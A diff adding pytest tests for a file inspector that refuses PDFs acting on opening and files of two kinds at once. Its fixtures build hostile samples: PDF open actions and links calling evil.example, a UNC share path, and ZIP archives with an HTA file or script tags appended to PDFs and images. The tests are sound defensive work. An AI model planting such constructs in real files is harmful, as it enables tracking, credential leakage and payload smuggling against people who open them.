@@ -12,6 +12,7 @@ import zlib
 from collections.abc import Callable, Mapping
 from hashlib import sha256
 from pathlib import Path
+from typing import Any
 
 import pikepdf
 import pytest
@@ -234,6 +235,78 @@ def test_a_pdf_that_does_more_than_show_pages_is_refused(
     change: Callable[[pikepdf.Pdf], None], reason: str, grouped: pikepdf.ObjectStreamMode
 ) -> None:
     assert any(reason in line for line in reasons(("a.pdf", a_pdf(change, object_stream_mode=grouped))))
+
+
+def _opens(**action: Any) -> Callable[[pikepdf.Pdf], None]:
+    def change(pdf: pikepdf.Pdf) -> None:
+        pdf.Root.OpenAction = pikepdf.Dictionary(**action)
+
+    return change
+
+
+def _on_the_first_page(pdf: pikepdf.Pdf) -> None:
+    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.Print))
+
+
+def _elsewhere(pdf: pikepdf.Pdf) -> None:
+    link = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil.example\\share\\a.pdf"))
+    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=link)
+    pdf.pages[0].obj.Annots = pikepdf.Array([annotation])
+
+
+_TO_A_PAGE = pikepdf.Name.GoTo
+_ASKS_AN_ADDRESS = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/seen"))
+
+
+@pytest.mark.parametrize(
+    ("change", "reason"),
+    [
+        (_opens(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/seen")), "when it is opened"),
+        (_opens(S=pikepdf.Name.Named, N=pikepdf.Name.Print), "when it is opened"),
+        (_opens(S=_TO_A_PAGE, D=pikepdf.String("a"), Next=_ASKS_AN_ADDRESS), "when it is opened"),
+        (_opens(URI=pikepdf.String("https://evil.example")), "when it is opened"),
+        (_on_the_first_page, "while it is read"),
+        (_elsewhere, "It opens other files."),
+    ],
+)
+def test_a_pdf_that_acts_on_opening_is_refused(change: Callable[[pikepdf.Pdf], None], reason: str) -> None:
+    assert any(reason in line for line in reasons(("a.pdf", a_pdf(change))))
+
+
+def test_a_pdf_that_begins_at_a_place_in_itself_and_links_to_a_page_is_accepted() -> None:
+    def as_office_programs_do(pdf: pikepdf.Pdf) -> None:
+        page = pdf.pages[0].obj
+        pdf.Root.OpenAction = pikepdf.Array([page, pikepdf.Name.XYZ, None, None, 0])
+        link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://school.example"))
+        page.Annots = pikepdf.Array(
+            [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=link)]
+        )
+
+    assert inspect(("a.pdf", a_pdf(as_office_programs_do))).media_type is MediaType.PDF
+
+
+def _zipped() -> bytes:
+    content = io.BytesIO()
+    with zipfile.ZipFile(content, "w") as archive:
+        archive.writestr("run.hta", "<script>")
+    return content.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "what"),
+    [
+        ("a.pdf", lambda: a_pdf() + _zipped(), "an archive"),
+        ("a.png", lambda: a_picture("PNG") + _zipped(), "an archive"),
+        ("a.jpg", lambda: a_picture("JPEG") + _zipped(), "an archive"),
+        (
+            "a.pdf",
+            lambda: a_pdf().replace(b"\n", b"\n%<script src=//evil.example></script>\n", 1),
+            "a web page",
+        ),
+    ],
+)
+def test_a_file_of_two_kinds_at_once_is_refused(name: str, content: Callable[[], bytes], what: str) -> None:
+    assert any(f"two kinds at once ({what})" in line for line in reasons((name, content())))
 
 
 def test_escapes_do_not_hide_a_script() -> None:
